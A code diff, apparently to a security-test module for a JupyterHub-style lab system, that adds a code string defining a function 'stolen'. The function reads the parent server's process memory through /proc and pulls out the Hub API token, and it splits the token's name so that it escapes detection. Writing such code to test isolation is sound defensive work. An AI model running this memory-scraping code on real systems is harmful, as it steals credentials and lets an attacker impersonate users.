@@ -100,6 +100,31 @@ def hunt():
 
 print(json.dumps({"found": sorted(hunt()), "seen": SEEN}))
 """
+STOLEN = r"""
+import os, re
+def stolen():
+    # The word is put together here, or it would be found in what the server passed on as this cell.
+    wanted = re.compile(b"JUPYTERHUB_API_" + b"TOKEN=([0-9a-f]{32})")
+    server = os.getppid()
+    with open(f"/proc/{server}/maps") as maps, open(f"/proc/{server}/mem", "rb", buffering=0) as memory:
+        for line in maps:
+            span, modes = line.split()[:2]
+            low, high = (int(end, 16) for end in span.split("-"))
+            if "w" in modes:
+                try:
+                    memory.seek(low)
+                    found = wanted.search(memory.read(high - low))
+                except (OSError, OverflowError):
+                    continue
+                if found:
+                    return found[1].decode()
+    return ""
+"""
+"""Defines `stolen`, which reads the Hub's token of a lab in its server's memory: at T1 they have one user id.
+
+So the token counts as the member's, and of anything that runs in the member's kernel (docs/security.md).
+"""
+
 PLACES = ("/home", "/tmp", "/links", "/in", "/out", "/dev/shm", "/etc", "/mirror", "/run", "/var")
 """What a lab has beside its image, whose every byte was hashed before there was a member; home is given by name."""
 
